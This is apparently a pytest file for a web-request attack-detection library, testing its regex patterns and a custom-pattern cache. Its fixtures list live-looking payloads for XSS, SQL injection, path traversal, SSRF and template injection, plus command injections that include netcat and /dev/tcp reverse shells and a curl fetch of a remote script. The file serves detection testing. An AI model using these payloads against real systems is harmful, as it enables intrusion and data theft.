"""Built-in attack patterns, custom-pattern validation and the custom-pattern cache."""

from __future__ import annotations

import re
import threading

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard_core._shared.policy.attack_patterns import (
    BUILTIN_CATEGORIES,
    BUILTIN_PATTERNS,
    CLEAN_TEXT_MAX,
    CLEAN_TEXTS_KEPT,
    MIN_SCAN_LENGTH,
    AttackPattern,
    CustomPatternCache,
    PatternMatch,
    _pattern_set,
    compile_custom,
    decode_pattern_list,
    encode_pattern_list,
    scan,
    scan_length,
)
from guard_core._shared.policy.builtin_patterns import CUSTOM

LIMIT = 10_000

ATTACKS: dict[str, list[str]] = {
    "xss": [
        "<script>alert(1)</script>",
        '"><ScRiPt>prompt`1`</sCrIpT>',
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '<a href="javascript:alert(document.cookie)">x</a>',
        "<iframe src=//evil.example>",
        "data:text/html;base64,PHNjcmlwdD4=",
        '<div style="width: expression(alert(1))">',
    ],
    "sqli": [
        "' OR 1=1 --",
        "' or '1'='1",
        '") OR ("a"="a',
        "admin'--",
        "1 or 1=1",
        "1 UNION SELECT username, password FROM users",
        "1' union all select null,null--",
        "1/**/UNION/**/SELECT 1",
        "1; DROP TABLE users",
        "'; exec xp_cmdshell 'dir'--",
        "1 AND SLEEP(5)",
        "'; WAITFOR DELAY '0:0:5'--",
        "SELECT table_name FROM information_schema.tables",
    ],
    "path_traversal": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc",
        "/static/..%2f..%2fapp.py",
        "/api/../admin",
        "file=../secret",
        "....//....//etc",
        "%252e%252e%252fboot.ini",
    ],
    "command_injection": [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "`uname -a`",
        "$(curl http://x.example/s.sh)",
        "; ls -la",
        "127.0.0.1; ping -c 3 x",
        "a;sleep 5",
        "cat${IFS}/etc/passwd",
        "; nc -e /bin/sh 203.0.113.9 4444",
        "bash -i >& /dev/tcp/203.0.113.9/80 0>&1",
    ],
    "lfi": [
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/passwd",
        "/proc/self/environ",
        "expect://id",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "page=../../config.php%00",
        "zip://shell.jpg#payload.php",
    ],
    "rfi": [
        "?page=http://evil.example/shell.txt?",
        "include=https://evil.example/c99.php%00",
        "require_once('http://evil.example/x.php')",
        "file=\\\\evil\\share\\x.php",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data",
        "http://metadata.google.internal/computeMetadata/v1/",
        "url=http://127.0.0.1:6379/",
        "http://localhost/admin",
        "gopher://127.0.0.1:25/_HELO",
        "http://[::1]:80/",
        "http://2130706433/",
        "http://0x7f000001/",
        "url=http://10.0.0.5/internal",
        "http://user@192.168.1.1/",
    ],
    "template_injection": [
        "{{7*7}}",
        "{{ config.items() }}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${7*7}",
        "#{7*7}",
        "${jndi:ldap://evil.example/a}",
        "<%= 7 * 7 %>",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ],
}

BENIGN = [
    "hello world",
    "O'Brien's café",
    '{"name": "Alice", "age": 30, "tags": ["a", "b"], "bio": "I like cats & dogs; really!"}',
    '{"items":[{"id":1,"qty":2}],"note":"Leave at door; ring bell & wait"}',
    "/api/v1/users/42",
    "/products?category=shoes&sort=price_asc&page=3",
    "https://example.com/search?q=python+regex&page=2",
    "https://www.example.com/blog/2024/01/hello-world?utm_source=news&utm_medium=email",
    "name=John+Smith&email=john%40example.com&message=Hi%21+I%27d+like+a+quote.",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "session=abc; theme=dark; lang=en-US",
    "Please select an option from the list or drop us a line; union members welcome.",
    "Tom & Jerry",
    "5 * 3 = 15 and 1 + 1 = 2",
    "price: $10 (approx)",
    "rock 'n' roll and blues",
    'He said "wow" -- then left.',
    "she wrote 'yes' or 'no'",
    "fish & chips; sleep well",
    "Ctrl & Cmd keys",
    "The expression (x + 1) is positive; confirm (2 items).",
    "Hello {{ name }}, your order {{ order_id }} shipped.",
    "Item #{count} added",
    "It's a 'test' and it's fine",
    "Use the JavaScript: the Good Parts book",
    "C'est l'été, n'est-ce pas?",
    "Wait... what?",
    "Call 555-0100 or email us; id cards required",
    "The cat sat on the mat | the dog did not",
    "Multi\nline\ncurl is a tool\n",
]


def categories(text: str) -> set[str]:
    return {match.category for match in scan(text, (), LIMIT)}


@pytest.mark.parametrize(
    ("category", "attack"),
    [(category, attack) for category, attacks in ATTACKS.items() for attack in attacks],
)
def test_builtin_true_positives(category: str, attack: str) -> None:
    assert category in categories(attack)


@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_is_not_flagged(text: str) -> None:
    assert scan(text, (), LIMIT) == ()


def test_every_category_is_covered() -> None:
    assert set(ATTACKS) == BUILTIN_CATEGORIES
    assert CUSTOM not in BUILTIN_CATEGORIES


def test_builtins_are_distinct_and_case_insensitive() -> None:
    assert len({p.pattern for p in BUILTIN_PATTERNS}) == len(BUILTIN_PATTERNS)
    for pattern in BUILTIN_PATTERNS:
        assert pattern.regex.options.case_sensitive is False
    assert "xss" in categories("<SCRIPT>ALERT(1)</SCRIPT>")
    assert "sqli" in categories("' oR 1=1 --")


_ATTACK_PIECES = [attack for attacks in ATTACKS.values() for attack in attacks] + BENIGN


@settings(max_examples=50, deadline=None)
@given(
    st.lists(st.one_of(st.sampled_from(_ATTACK_PIECES), st.text(max_size=20)), max_size=6).map(
        "".join
    ),
    st.integers(min_value=0, max_value=30),
)
def test_only_the_first_scan_length_characters_count(text: str, extra: int) -> None:
    custom = (AttackPattern("evil", CUSTOM, compile_custom("evil")),)
    limit = MIN_SCAN_LENGTH + extra
    padded = "x" * (MIN_SCAN_LENGTH - 5) + text
    assert scan(padded, custom, limit) == scan(padded[:limit], custom, limit)
    head = (padded + " " * limit)[:limit]
    assert scan(head + "evil <script>", custom, limit) == scan(head, custom, limit)


def test_at_least_min_scan_length_characters_are_scanned() -> None:
    assert MIN_SCAN_LENGTH >= 1 << 20
    assert scan_length(1) == scan_length(LIMIT) == MIN_SCAN_LENGTH
    assert scan_length(MIN_SCAN_LENGTH + 1) == MIN_SCAN_LENGTH + 1
    # a payload behind 10,000 characters of padding is found, whatever the configuration
    for limit in (40, LIMIT):
        assert "xss" in {m.category for m in scan("x" * 10_000 + "<script>", (), limit)}
        assert "xss" in {m.category for m in scan("é" * 500_000 + "<script>", (), limit)}


@pytest.mark.parametrize(
    "text",
    [
        "a" * MIN_SCAN_LENGTH,
        "<a" * (MIN_SCAN_LENGTH // 2),
        "<a " + "on" * (MIN_SCAN_LENGTH // 2),
        "{{" + "a" * MIN_SCAN_LENGTH,
        "${" + "1*" * (MIN_SCAN_LENGTH // 2),
        "'" + " or a" * (MIN_SCAN_LENGTH // 5),
        "../" * (MIN_SCAN_LENGTH // 3),
        "%2e" * (MIN_SCAN_LENGTH // 3),
        "; " * (MIN_SCAN_LENGTH // 2),
        "=http://" + "a." * (MIN_SCAN_LENGTH // 2),
        "http://" * (MIN_SCAN_LENGTH // 7),
        "union " * (MIN_SCAN_LENGTH // 6),
        "select " * (MIN_SCAN_LENGTH // 7),
        "".join(_ATTACK_PIECES) * (MIN_SCAN_LENGTH // len("".join(_ATTACK_PIECES))),
    ],
)
def test_adversarial_content_finds_what_each_pattern_finds(text: str) -> None:
    """The one-pass scan over 1 MiB reports exactly the patterns that match one by one."""
    expected = [p.pattern for p in BUILTIN_PATTERNS if p.matches(text)]
    assert [m.pattern for m in scan(text, (), LIMIT)] == expected


def test_content_is_cut_to_the_scan_length() -> None:
    custom = (AttackPattern("needle", CUSTOM, compile_custom("needle")),)
    limit = MIN_SCAN_LENGTH + 20
    pad = "x" * MIN_SCAN_LENGTH
    assert scan(pad + "x" * 20 + "<script>", custom, limit) == ()
    assert scan(pad + "x" * 16 + "needle", custom, limit) == ()
    assert scan(pad + "x" * 14 + "needle", custom, limit) == (PatternMatch("needle", CUSTOM),)
    assert "xss" in {m.category for m in scan("<script>" + pad + "x" * 50, custom, limit)}


def test_custom_matches_follow_builtins() -> None:
    custom = (AttackPattern("alert", CUSTOM, compile_custom("alert")),)
    matches = scan("<script>alert(1)</script>", custom, LIMIT)
    assert matches[-1] == PatternMatch("alert", CUSTOM)
    assert {m.category for m in matches[:-1]} == {"xss"}


def test_a_text_found_clean_is_scanned_again_by_new_patterns() -> None:
    text = "/items/42?q=shoes-and-boots"
    assert scan(text, (), LIMIT) == ()
    assert scan(text, (), LIMIT) == ()  # answered from the clean texts
    boots = (AttackPattern("boots", CUSTOM, compile_custom("boots")),)
    assert scan(text, boots, LIMIT) == (PatternMatch("boots", CUSTOM),)
    assert scan(text, (), LIMIT) == ()


def test_the_clean_texts_stay_bounded_and_long_texts_are_not_kept() -> None:
    custom = (AttackPattern("zzqq", CUSTOM, compile_custom("zzqq")),)
    for n in range(CLEAN_TEXTS_KEPT + 10):
        assert scan(f"/page/{n}", custom, LIMIT) == ()
    kept = _pattern_set(custom)._clean
    assert 0 < len(kept) <= CLEAN_TEXTS_KEPT
    long_text = "a" * (CLEAN_TEXT_MAX + 1)
    assert scan(long_text, custom, LIMIT) == ()
    assert long_text not in kept
    # an attack in a text that is kept clean elsewhere is still found
    assert scan("/page/1<script>", custom, LIMIT)


# -- validation ----------------------------------------------------------------------------


def test_compile_custom() -> None:
    assert compile_custom(r"evil\d+").search("EVIL42")
    assert not compile_custom(r"(?-i:Evil)").search("evil")
    with pytest.raises(ValueError, match=r"invalid regular expression '\[a-': missing \]"):
        compile_custom("[a-")
    with pytest.raises(ValueError, match="no argument for repetition operator"):
        compile_custom("*x")
    with pytest.raises(ValueError, match="empty"):
        compile_custom("")
    with pytest.raises(ValueError, match="empty"):
        compile_custom(" \t\n")
    with pytest.raises(ValueError, match="UTF-8"):
        compile_custom("x\udc80")
    for bad in (None, 1, b"x", re.compile("x")):
        with pytest.raises(TypeError, match="pattern must be a str"):
            compile_custom(bad)


def test_pattern_list_encoding() -> None:
    assert encode_pattern_list(["b", "a", "b", "é"]) == '["a", "b", "é"]'
    assert decode_pattern_list(None) == []
    assert decode_pattern_list("[]") == []
    assert decode_pattern_list("{}") == []  # Lua's cjson writes an empty table so
    assert decode_pattern_list('["a","b\\/c"]') == ["a", "b/c"]
    assert decode_pattern_list(b'["a"]') == ["a"]
    for malformed in ("not json", '{"a": 1}', "[1, 2]", '"a"', "null", b"\xff", 3):
        assert decode_pattern_list(malformed) is None


# -- the custom-pattern cache --------------------------------------------------------------


def test_cache_add_remove_shared() -> None:
    cache = CustomPatternCache()
    assert cache.active() == ()
    cache.add("b", compile_custom("b"), shared=True)
    cache.add("a", compile_custom("a"), shared=True)
    assert cache.patterns() == ("a", "b")
    assert all(p.category == CUSTOM for p in cache.active())
    assert cache.pending == {}
    assert cache.added_here == {"a", "b"}
    assert cache.remove("a", shared=True) is True
    assert cache.remove("a", shared=True) is False
    assert cache.patterns() == ("b",)
    assert cache.added_here == {"b"}


def test_cache_changes_redis_did_not_take_stay_pending() -> None:
    cache = CustomPatternCache()
    assert cache.load_shared(["remote"], cache.begin_read()) == ()
    cache.add("local", compile_custom("local"), shared=False)
    assert cache.patterns() == ("local", "remote")
    assert cache.pending == {"local": True}
    # a later read from Redis does not drop the local addition
    assert cache.load_shared(["remote", "other"], cache.begin_read()) == ()
    assert cache.patterns() == ("local", "other", "remote")
    # removing a shared pattern without Redis masks it until Redis takes the removal
    assert cache.remove("remote", shared=False) is True
    assert cache.pending == {"local": True, "remote": False}
    cache.load_shared(["remote", "other"], cache.begin_read())
    assert cache.patterns() == ("local", "other")
    assert cache.remove("never", shared=False) is False
    assert cache.remove("local", shared=False) is True
    assert cache.pending == {"remote": False}
    assert cache.added_here == frozenset()
    # once Redis takes a change, nothing is pending for it
    cache.add("remote", compile_custom("remote"), shared=True)
    assert cache.pending == {}
    assert cache.patterns() == ("other", "remote")


def test_cache_drops_a_read_that_started_before_a_local_change() -> None:
    cache = CustomPatternCache()
    read = cache.begin_read()
    cache.add("mine", compile_custom("mine"), shared=True)
    assert cache.load_shared([], read) is None  # stale: read before the add
    assert cache.patterns() == ("mine",)
    assert cache.load_shared([], cache.begin_read()) == ()  # fresh: removed elsewhere
    assert cache.patterns() == ()


def test_cache_drops_a_read_that_began_before_one_already_installed() -> None:
    """A request's read and the background follower's run at once: the one that began
    first and ends last holds the older list, and must not replace the newer one."""
    cache = CustomPatternCache()
    older, newer = cache.begin_read(), cache.begin_read()
    assert cache.load_shared(["added-elsewhere"], newer) == ()
    assert cache.load_shared([], older) is None
    assert cache.patterns() == ("added-elsewhere",)


def test_cache_skips_invalid_shared_patterns_once() -> None:
    cache = CustomPatternCache()
    assert cache.load_shared(["(bad", "good"], cache.begin_read()) == ("(bad",)
    assert cache.patterns() == ("good",)
    assert cache.load_shared(["(bad", "good"], cache.begin_read()) == ()


def test_cache_compiles_each_pattern_once() -> None:
    cache = CustomPatternCache()
    cache.load_shared(["one"], cache.begin_read())
    first = cache.active()[0].regex
    cache.load_shared(["one", "two"], cache.begin_read())
    assert cache.active()[0].regex is first


def test_cache_is_thread_safe() -> None:
    cache = CustomPatternCache()
    barrier = threading.Barrier(8)

    def worker(index: int) -> None:
        barrier.wait()
        for step in range(200):
            pattern = f"p{index}-{step}"
            cache.add(pattern, compile_custom(pattern), shared=step % 2 == 0)
            if step % 3 == 0:
                cache.remove(pattern, shared=step % 2 == 0)
            cache.active()

    threads = [threading.Thread(target=worker, args=(index,)) for index in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    expected = sorted(f"p{i}-{s}" for i in range(8) for s in range(200) if s % 3 != 0)
    assert list(cache.patterns()) == expected
    assert cache.added_here == set(expected)


def test_deeply_nested_stored_json_is_malformed_not_a_crash() -> None:
    from guard_core._shared.policy.attack_patterns import decode_pattern_list
    from guard_core._shared.validation import parse_json

    assert decode_pattern_list("[" * 100_000) is None
    with pytest.raises(ValueError, match="stored value is not JSON"):
        parse_json("[" * 100_000, "stored value")


# -- linear-time matching (RE2) ------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "feature"),
    [
        ("(?=admin)", "look-around"),
        ("(?!x)y", "look-around"),
        ("(?<=a)b", "look-around"),
        ("(?<!a)b", "look-around"),
        (r"(a)\1", "backreference"),
        (r"(['\"]).*\1", "backreference"),
        ("(?P<q>a)(?P=q)", "backreference"),
    ],
)
def test_patterns_re2_cannot_take_are_refused_saying_why(pattern: str, feature: str) -> None:
    with pytest.raises(ValueError, match=rf"uses (a )?{feature}.*RE2") as caught:
        compile_custom(pattern)
    assert repr(pattern) in str(caught.value)


def test_catastrophic_pattern_runs_in_linear_time() -> None:
    """`(a+)+$` backtracks exponentially in Python's `re` (2^n steps on n a's and a `!`):
    this would not end. Under RE2 it is one linear pass; the bound is generous on purpose."""
    custom = (AttackPattern("(a+)+$", CUSTOM, compile_custom("(a+)+$")),)
    found: list[tuple[PatternMatch, ...]] = []
    worker = threading.Thread(
        target=lambda: found.extend(
            scan(text, custom, LIMIT) for text in ("a" * 100_000 + "!", "a" * 100_000)
        ),
        daemon=True,
    )
    worker.start()
    worker.join(timeout=60)
    assert not worker.is_alive(), "catastrophic backtracking"
    assert found == [(), (PatternMatch("(a+)+$", CUSTOM),)]


def test_lone_surrogates_in_content_are_scanned() -> None:
    assert categories("\ud800<script>\udfff") == {"xss"}
    assert categories("\ud800" * 10) == set()


#: Built-in patterns as they were for Python's `re`, before their rewrite to RE2 syntax
#: (no look-ahead, no repetition counts above 1000), with samples they caught and missed.
PYTHON_RE_ORIGINALS = {
    r"\b(?:java|vb|live)script\s*:\S": r"\b(?:java|vb|live)script\s*:(?=\S)",
    r"<[a-z][^<>]*[\s/\"']on[a-z]{3,30}\s*=": r"<[a-z][^<>]{0,2000}?[\s/\"']on[a-z]{3,30}\s*=",
    r"\bselect\b[^;]*?\bfrom\b[^;]{0,50}?\b(?:information_schema|sysobjects|pg_)": (
        r"\bselect\b[^;]{0,200}?\bfrom\b[^;]{0,50}?\b(?:information_schema|sysobjects|pg_)"
    ),
}
_TEMPLATE_WORDS = (
    r"\d\s*[*+/]\s*\d|__\w{1,30}__|\bconfig\b|\brequest\b|\bself\b|\bcycler\b|\bjoiner\b"
    r"|\blipsum\b|\|\s*attr\b|\bconstructor\b|\bprocess\b"
)
_EL_WORDS = r"\d\s*[*+/]\s*\d|\bT\s*\(|getClass|\bRuntime\b|\.exec\b|__\w{1,30}__|\bclass\b"
PYTHON_RE_ORIGINALS |= {
    rf"\{{\{{[^{{}}]*(?:{_TEMPLATE_WORDS})[^{{}}]*\}}\}}": (
        rf"\{{\{{(?=[^{{}}]{{0,500}}?(?:{_TEMPLATE_WORDS}))[^{{}}]{{0,500}}\}}\}}"
    ),
    rf"[$#@]\{{[^{{}}]*(?:{_EL_WORDS})[^{{}}]*\}}": (
        rf"[$#@]\{{(?=[^{{}}]{{0,500}}?(?:{_EL_WORDS}))[^{{}}]{{0,500}}\}}"
    ),
}
REWRITE_SAMPLES = (
    [attack for attacks in ATTACKS.values() for attack in attacks]
    + BENIGN
    + [
        "javascript:alert(1)",
        "vbscript: msgbox",
        "javascript: ",
        "<body onload=x()>",
        '<a title="x" onmouseover = "y">',
        "<b>on</b>",
        "select name from sysobjects",
        "SELECT a,b FROM pg_catalog.pg_tables",
        "select the one from the list",
        "{{ request.application }}",
        "{{ 7 + 7 }}",
        "{{ user.name }}",
        "{{self}}",
        "${class.forName}",
        "#{ 3*3 }",
        "@{x}",
        "{{config}} and {{x}}",
    ]
)


def test_rewritten_builtins_are_all_checked() -> None:
    assert set(PYTHON_RE_ORIGINALS) <= {p.pattern for p in BUILTIN_PATTERNS}


@pytest.mark.parametrize("rewritten", sorted(PYTHON_RE_ORIGINALS))
def test_rewritten_builtins_catch_what_the_originals_caught(rewritten: str) -> None:
    original = re.compile(PYTHON_RE_ORIGINALS[rewritten], re.IGNORECASE)
    (pattern,) = [p for p in BUILTIN_PATTERNS if p.pattern == rewritten]
    caught = [s for s in REWRITE_SAMPLES if original.search(s)]
    assert caught, "the samples exercise the pattern"
    assert [s for s in REWRITE_SAMPLES if pattern.matches(s)] == caught
